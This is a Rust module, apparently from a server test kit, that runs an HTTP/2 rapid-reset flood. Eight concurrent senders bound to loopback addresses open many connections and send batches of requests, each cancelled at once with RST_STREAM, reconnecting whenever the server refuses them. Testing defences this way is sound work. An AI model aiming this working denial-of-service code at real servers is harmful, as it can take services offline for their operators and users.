//! Requests of HTTP/2 that are called off as soon as they are made, on connection after connection.

use super::attacker::Orders;
use crate::coding::{CANCEL, PREFACE, RST_STREAM, SETTINGS, frame, request};
use anyhow::{Result, anyhow};
use ipse_testkit::{Random, Stopwatch};
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

/// How many attack at once, each from an address of its own.
const ATTACKERS: u8 = 8;
/// Requests in one write: fewer than a server takes for an attack, and many more.
const BATCHES: [u64; 3] = [10, 100, 1_000];
/// How long who is ahead of the plan waits.
const PAUSE: Duration = Duration::from_millis(5);

/// What all attackers share.
struct Plan {
    door: SocketAddr,
    resets: u64,
    lasting: Duration,
    clock: Stopwatch,
    /// Resets that somebody has taken on.
    taken: AtomicU64,
    connections: AtomicU64,
}

/// Sends all resets, spread over the time that it is to last. Says how many, and on how many connections.
pub(crate) async fn send(orders: &Orders) -> Result<(u64, u64)> {
    let plan = Arc::new(Plan {
        door: orders.clear,
        resets: orders.resets,
        lasting: orders.lasting,
        clock: Stopwatch::start(),
        taken: AtomicU64::new(0),
        connections: AtomicU64::new(0),
    });
    let mut attacking = JoinSet::new();
    for number in 0..ATTACKERS {
        let (plan, random) = (Arc::clone(&plan), Random::new(orders.seed ^ u64::from(number)));
        attacking.spawn(async move { plan.attack(Ipv4Addr::new(127, 0, 2, 1 + number), random).await });
    }
    let mut sent = 0;
    while let Some(resets) = attacking.join_next().await {
        sent += resets.map_err(|_| anyhow!("an attacker panicked"))?;
    }
    tokio::time::sleep(plan.lasting.saturating_sub(plan.clock.elapsed())).await;
    Ok((sent, plan.connections.load(Ordering::Relaxed)))
}

impl Plan {
    /// One attacker's part. Says how many resets it sent.
    async fn attack(&self, source: Ipv4Addr, mut random: Random) -> u64 {
        let mut sent = 0;
        let mut line = None;
        loop {
            let batch = *random.pick(&BATCHES);
            let before = self.taken.fetch_add(batch, Ordering::Relaxed);
            if before >= self.resets {
                return sent;
            }
            while before > self.due() {
                tokio::time::sleep(PAUSE).await;
            }
            // What the server does not take any more is sent again, to where it does.
            loop {
                let mut open: Line = match line.take() {
                    Some(open) => open,
                    None => match Line::open(source, self.door).await {
                        Ok(open) => {
                            self.connections.fetch_add(1, Ordering::Relaxed);
                            open
                        }
                        Err(_) => {
                            tokio::time::sleep(PAUSE).await;
                            continue;
                        }
                    },
                };
                if open.send(batch).await {
                    sent += batch;
                    line = Some(open);
                    break;
                }
            }
        }
    }

    /// How many resets should have been sent by now.
    fn due(&self) -> u64 {
        let share = self.clock.elapsed().as_micros().saturating_mul(u128::from(self.resets));
        u64::try_from(share / self.lasting.as_micros().max(1)).unwrap_or(u64::MAX)
    }
}

/// An open connection.
struct Line {
    stream: TcpStream,
    /// The next request's.
    number: u32,
}

impl Line {
    async fn open(source: Ipv4Addr, door: SocketAddr) -> Result<Self> {
        let socket = TcpSocket::new_v4()?;
        socket.bind((source, 0).into())?;
        let mut stream = socket.connect(door).await?;
        stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
        Ok(Self { stream, number: 1 })
    }

    /// Asks so often, and calls each request off. Says whether the server still listened.
    async fn send(&mut self, batch: u64) -> bool {
        let mut bytes = Vec::new();
        for _ in 0..batch {
            bytes.extend(request(self.number, "/api/v1/meta"));
            bytes.extend(frame(RST_STREAM, 0, self.number, &CANCEL.to_be_bytes()));
            self.number += 2;
        }
        // What it says is heard, so that it can go on to write.
        loop {
            match self.stream.try_read(&mut [0; 4096]) {
                Ok(1..) => {}
                Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => break,
                _ => return false,
            }
        }
        self.stream.write_all(&bytes).await.is_ok()
    }
}
